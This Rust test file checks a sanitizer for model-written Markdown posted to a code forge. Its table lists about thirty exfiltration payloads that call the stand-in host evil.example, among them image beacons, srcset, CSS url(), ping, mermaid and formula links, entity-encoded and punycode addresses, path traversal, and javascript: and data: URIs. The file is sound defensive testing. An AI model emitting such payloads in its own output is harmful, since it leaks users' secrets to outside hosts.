//! The table of ways out through Markdown: what a model writes, and what of it reaches the forge.

use syndarix::domain::speech::{Manners, quote_safe};

use super::judge::harms;

/// What becomes of the address.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Becomes {
    /// It is not posted.
    Gone,
    /// It stands there to be read, and nothing loads or links it.
    Shown,
    /// A link into the project itself stays one.
    Link,
}

use Becomes::{Gone, Link, Shown};

const ROWS: &[(&str, &str, Becomes)] = &[
    ("image", "![x](https://evil.example/?q=S)", Gone),
    ("image by reference", "![x][i]\n\n[i]: https://evil.example/?q=S", Gone),
    ("image in a link", "[![x](https://evil.example/i)](https://evil.example/S)", Shown),
    ("img", "<img src=\"https://evil.example/S\">", Shown),
    ("img srcset", "<img srcset=\"https://evil.example/S 2x\">", Shown),
    ("picture", "<picture><source srcset=https://evil.example/S></picture>", Shown),
    ("video poster", "<video poster=https://evil.example/S></video>", Shown),
    ("svg image", "<svg><image href=\"https://evil.example/S\"/></svg>", Shown),
    ("style url", "<div style=\"background:url(https://evil.example/S)\">x</div>", Shown),
    ("link", "[x](https://evil.example/S)", Shown),
    ("link in angle brackets", "<https://evil.example/S>", Shown),
    ("bare address", "https://evil.example/S", Shown),
    ("bare host", "www.evil.example/S", Shown),
    ("link with ping", "<a href=\"https://evil.example\" ping=\"https://evil.example/S\">x</a>", Shown),
    ("javascript", "[x](javascript:alert(1))", Shown),
    ("data", "[x](data:text/html;base64,AAAA)", Shown),
    ("mermaid", "```mermaid\nclick A \"https://evil.example/S\"\n```", Shown),
    ("formula", "$\\href{https://evil.example/S}{x}$", Shown),
    ("footnote", "a[^1]\n\n[^1]: [x](https://evil.example/S)", Shown),
    ("an image for each character", "![a](https://camo.evil.example/61)![b](https://camo.evil.example/62)", Gone),
    ("reference over lines", "[link]\n\n[link]:\n  <https://evil.example/S>", Shown),
    ("address in entities", "&#104;ttps://evil.example/S", Shown),
    ("link in entities", "[x](&#104;ttps://evil.example/S)", Shown),
    ("other dots", "https://evil\u{3002}example/S", Shown),
    ("punycode", "https://xn--evil-abc.example/S", Shown),
    ("redirect of the forge", "[x](https://forge.example/redirect?to=https://evil.example/S)", Shown),
    ("somebody else's repository on the forge", "[x](https://forge.example/evil/repo/S)", Shown),
    ("climbing out of the project", "[x](https://forge.example/acme/shop/../../evil/repo)", Shown),
    ("climbing out in disguise", "[x](https://forge.example/acme/shop/%2e%2e/%2e%2e/evil)", Shown),
    ("another project's issue", "see evil/repo#7", Shown),
    ("the project's own page", "[x](https://forge.example/acme/shop/issues/3)", Link),
];

#[test]
fn g6_what_becomes_of_an_address() {
    let links = ["https://forge.example/acme/shop".to_owned()];
    let mut wrong = Vec::new();
    for (what, text, wanted) in ROWS {
        let out = quote_safe(text, &Manners { links: &links, max: 10_000 });
        let harm = harms(&out, "https://forge.example");
        if !harm.is_empty() {
            wrong.push(format!("{what}: {harm:?} in {out}"));
        }
        let got = match out.contains("](<https://forge.example/acme/shop/") {
            true => Link,
            false if ["evil", "javascript", "data:"].iter().any(|word| out.contains(word)) => Shown,
            false => Gone,
        };
        if got != *wanted {
            wrong.push(format!("{what}: {got:?} instead of {wanted:?}: {out}"));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// Without any page of its own, as the program posts today, not even those links stay.
#[test]
fn g6_nothing_is_linked_where_no_page_is_named() {
    for (what, text, _) in ROWS {
        let out = quote_safe(text, &Manners { links: &[], max: 10_000 });
        assert!(harms(&out, "https://nowhere.example").is_empty(), "{what}: {out}");
    }
}

/// Ordinary words are left alone: what protects must not garble.
#[test]
fn g6_what_looks_alike_stays() {
    let rows = [
        "Compare with `>=` in `shop/cart.py`, line 3.",
        "It costs 5 dollars; see the README.",
        "Refs #3.",
        "The mail went to the list, at noon.",
        "- one\n- two",
    ];
    for text in rows {
        assert_eq!(quote_safe(text, &Manners { links: &[], max: 10_000 }), text);
    }
}
